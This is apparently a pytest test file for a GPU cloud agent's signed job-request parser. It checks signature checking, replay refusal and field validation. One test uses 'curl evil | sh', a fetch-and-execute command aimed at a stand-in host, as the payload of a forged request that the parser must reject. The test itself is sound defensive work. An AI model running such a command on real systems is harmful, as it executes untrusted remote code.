"""A kept machine's job request (gpucloud/vm/agent/job_request.py): only the run owner's signature,
for this run and node, with a seq above the last job taken, and well-formed fields, is run."""

from __future__ import annotations

from pathlib import Path

import pytest

from gpucloud.channel import owner
from gpucloud.vm.agent import job_request
from gpucloud.vm.agent.claim import verify


def _signed(run_id: str, doc: dict, home: Path) -> bytes:
    body = job_request.request_body(doc)
    return job_request.signed_request(body, owner.owner_sign(run_id, body, home))


def _parse(raw: bytes, key: str, last_seq: int = 0) -> dict:
    return job_request.parse(raw, run_id="r1", rank=0, owner_key=key, last_seq=last_seq, verify=verify)


def test_the_owners_request_is_taken_once(tmp_path: Path) -> None:
    key = owner.owner_public("r1", tmp_path)
    assert (tmp_path / "runs" / "r1" / "owner.key").stat().st_mode & 0o777 == 0o600
    doc = {"run_id": "r1", "rank": 0, "seq": 2, "run": "echo hi", "env": {"A": "1"}, "delete": ["old.py"]}
    req = _parse(_signed("r1", doc, tmp_path), key)
    assert req["run"] == "echo hi" and req["seq"] == 2 and req["delete"] == ["old.py"] and req["env"] == {"A": "1"}
    with pytest.raises(job_request.Refused, match="not above the last job"):
        _parse(_signed("r1", doc, tmp_path), key, last_seq=2)  # a replay


@pytest.mark.parametrize(
    ("doc", "why"),
    [
        ({"run_id": "r2", "rank": 0, "seq": 1, "run": "x"}, "another run"),
        ({"run_id": "r1", "rank": 1, "seq": 1, "run": "x"}, "another run or node"),
        ({"run_id": "r1", "rank": 0, "seq": True, "run": "x"}, "seq"),
        ({"run_id": "r1", "rank": 0, "seq": 1, "run": ""}, "no `run`"),
        ({"run_id": "r1", "rank": 0, "seq": 1, "run": "x", "env": {"A": 1}}, "env"),
        ({"run_id": "r1", "rank": 0, "seq": 1, "run": "x", "delete": "a"}, "delete"),
    ],
)
def test_a_malformed_request_is_refused(tmp_path: Path, doc: dict, why: str) -> None:
    key = owner.owner_public("r1", tmp_path)
    with pytest.raises(job_request.Refused, match=why):
        _parse(_signed("r1", doc, tmp_path), key)


def test_a_request_signed_by_another_key_or_altered_is_refused(tmp_path: Path) -> None:
    key = owner.owner_public("r1", tmp_path)
    owner.owner_public("intruder", tmp_path)
    doc = {"run_id": "r1", "rank": 0, "seq": 1, "run": "curl evil | sh"}
    with pytest.raises(job_request.Refused, match="owner key"):
        _parse(_signed("intruder", doc, tmp_path), key)
    good = _signed("r1", {**doc, "run": "echo ok"}, tmp_path)
    with pytest.raises(job_request.Refused, match="owner key"):
        _parse(good.replace(b"echo ok", b"echo no"), key)
    with pytest.raises(job_request.Refused, match="no signature"):
        _parse(job_request.request_body(doc), key)
